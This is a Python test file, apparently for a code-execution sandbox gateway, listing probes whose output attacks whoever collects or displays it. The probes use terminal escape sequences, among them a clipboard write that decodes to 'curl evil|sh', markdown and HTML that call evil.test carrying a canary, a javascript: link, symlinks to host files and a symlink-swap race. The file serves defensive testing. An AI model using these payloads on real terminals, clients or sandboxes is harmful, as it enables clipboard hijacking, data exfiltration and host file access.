"""Harm whoever reads a result: the gateway that collects it, the terminal that shows it, the client that renders it."""

from __future__ import annotations

from dataclasses import replace

from sandgate.server.replies import ended as replied

from .probe import USUAL, Probe, Seen, said, swollen

LONGEST = 60_000
"""Characters. The budget is counted in tokens; this is what no budget allows."""


def tellable(seen: Seen) -> str:
    """The words for the model are text that any client can take: short, whole characters, nothing a terminal obeys."""
    told = seen.told
    if found := {char for char in told if (ord(char) < 32 or 127 <= ord(char) < 160) and char not in "\n\t"}:
        return f"control characters {sorted(found)}"
    if len(told) > LONGEST:
        return f"{len(told):,} characters"
    try:
        replied(seen.outcome).model_dump_json().encode("utf-8")
        told.encode("utf-8")
    except (UnicodeError, ValueError) as error:
        return f"it cannot be sent: {error}"
    return swollen(seen)


def is_text(seen: Seen) -> str:
    """A client is given plain text, not something it would render or fetch."""
    kinds = {block.type for block in replied(seen.outcome).content}
    return "" if kinds == {"text"} else f"blocks of {kinds}"


def artifact(identity: str, title: str, code: str, must: str, second: str = "") -> Probe:
    """Something for the one who reads; seen through a whole gateway where there is no second run."""
    files = replace(USUAL, workspace_files=3_000)
    return Probe(
        id=identity,
        title=title,
        code=code,
        kind="artifact",
        must=must,
        holds=said if second else tellable,
        second=second,
        same_session=bool(second),
        through_gateway=not second,
        limits=files if second else USUAL,
    )


PROBES = (
    artifact(
        "out-01",
        "print what a terminal obeys: clipboard, title, links, cursor",
        r"""
print("\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b]0;owned\x07\x1b]8;;http://evil.test\x07click\x1b]8;;\x07\x1b[2J\x1b[1A\x9b31m")
os.write(1, b"\x1bP+q544e\x1b\\\x00\x08\x7f\r")
""",
        "no control characters but line ends and tabs",
    ),
    artifact(
        "out-04",
        "return an object whose text is 300 MB",
        """
class Huge:
    def __repr__(self):
        return "R" * (60 << 20)
    __str__ = __repr__
    def __iter__(self):
        while True:
            yield self
result = [Huge(), Huge()]
""",
        "made and cut inside the sandbox, and cut again in the gateway",
    ),
    artifact(
        "out-05",
        "leave a link to a file of the host for the one who collects",
        """
os.symlink(OUTSIDE_FILE, "report.txt")
os.symlink(OUTSIDE_FOLDER, "folder")
os.symlink("/proc/1/root", "root")
""",
        "whoever comes next finds a link that leads nowhere",
        """
for name in ("report.txt", "folder/secret.txt", f"root{OUTSIDE_FILE}"):
    tried(name, lambda: open(name).read())
""",
    ),
    artifact(
        "out-06",
        "leave pipes, deep folders, sparse files and impossible names",
        r"""
tried("pipe", lambda: os.mkfifo("pipe"))
tried("sparse", lambda: os.truncate("sparse", 8 << 20) if open("sparse", "w") else None)
try:
    with open(b"bad\xff\nname\x1b[31m.txt", "w") as file:
        file.write("x")
except (OSError, ValueError) as error:
    print(error)
try:
    for _ in range(1_500):
        os.mkdir("deep")
        os.chdir("deep")
except OSError as error:
    print(error)
""",
        "the next run has its workspace, soon",
        "blocked('the workspace is there', len(os.listdir('.')))",
    ),
    artifact(
        "out-07",
        "swap a file for a link while it is being collected",
        """
with open("file", "w") as file:
    file.write("fine")
os.symlink(OUTSIDE_FILE, "link")
if os.fork() == 0:
    while True:
        os.rename("file", "report")
        os.rename("link", "file")
        os.rename("file", "link")
        os.rename("report", "file")
""",
        "files are looked at only when all of the run is gone",
        """
before = sorted(os.listdir("."))
time.sleep(0.1)
(blocked if before == sorted(os.listdir(".")) else escaped)("names change", before)
""",
    ),
    Probe(
        id="out-08",
        title="print markup that makes a client call out",
        code="""
print("![x](http://evil.test/?q=CANARY) <img src=http://evil.test/x> [click](javascript:alert(1))")
""",
        kind="artifact",
        must="given as text, as it was printed",
        holds=is_text,
        through_gateway=True,
    ),
    artifact(
        "out-51",
        "put half characters wherever text goes",
        r"""
print("half \ud800 printed")
class Odd(Exception): pass
Odd.__name__ = "odd\udfff"
if hash("x") % 2:
    raise Odd("\ud800" * 1000)
result = {"\udfff": ["\ud800", {"x\ud83d": "\udc00"}]}
""",
        "every word can be sent and recorded",
    ),
    artifact(
        "out-52",
        "print bytes that are no text",
        r"""
os.write(1, bytes(range(256)) * 20)
os.write(1, b"\xff\xfe\xed\xa0\x80\xf4\x90\x80\x80\xc0\x80")
os.write(1, "€".encode()[:2])
""",
        "shown with replacements",
    ),
    artifact(
        "out-53",
        "return more than may leave the sandbox",
        "result = 'x' * (50 << 20)",
        "refused inside with a sentence, and never sent",
    ),
    artifact(
        "out-54",
        "return what has no end: cycles, depth, generators",
        """
loop = {}
loop["loop"] = loop
deep = []
for _ in range(5_000):
    deep = [deep]
import itertools
result = [loop, deep, itertools.count()]
""",
        "cut where it becomes too deep",
    ),
    artifact(
        "out-55",
        "return objects that lie about what they are",
        """
class Lying(dict):
    def items(self):
        return [(object(), 1 << 30), (None, lambda: 1)]
    def keys(self):
        raise RuntimeError
class Text(str):
    def __str__(self):
        return 5
    def encode(self, *_):
        return b"\\xff"
class Number(int):
    def __repr__(self):
        return "NaN"
    __str__ = __repr__
class Disguised:
    __class__ = property(lambda self: dict)
result = [Lying(), Text("t"), Number(5), Disguised(), float("nan"), float("inf"), 10**5000, b"\\xff", {1: 2, None: 3}]
""",
        "what leaves is JSON, made by the guest",
    ),
    artifact(
        "out-56",
        "raise an error that attacks whoever shows it",
        r"""
class Odd(type):
    __name__ = property(lambda self: 1 / 0)
class Evil(Exception, metaclass=Odd):
    def __str__(self):
        return "\x1b[2J" + "M" * (20 << 20)
    @property
    def __traceback__(self):
        raise SystemExit
    @property
    def __cause__(self):
        return self
raise Evil
""",
        "told in few plain words",
    ),
    artifact(
        "out-57",
        "forge a last word with parts of megabytes and of wrong kinds",
        r"""
big = "\x1b[31m" + "x" * 200_000
send({
    "type": "done", "status": "error", "notes": [big, 5, None, {"a": big}], "limit": big, "memory_kb": -1,
    "fault": {"type": big, "message": big, "traceback": big},
})
time.sleep(30)
""",
        "each part is taken only in the form it must have, and cut",
    ),
    artifact(
        "out-58",
        "forge a value with half characters that only bytes can write",
        r"""
send(b'{"type":"done","status":"ok","has_value":true,"value":"\xed\xa0\x80","notes":["\xed\xbf\xbf"]}')
time.sleep(30)
""",
        "refused, or made whole",
    ),
    artifact(
        "out-59",
        "call tools whose names a terminal obeys, then fail",
        r"""
print(ask(request(1, "probe.\x1b[2J\x07" + "\u202e" * 10)))
send(request(2, "probe.hang"))
raise SystemExit("\x1b]0;owned\x07")
""",
        "names of calls are shown like any other text",
    ),
)
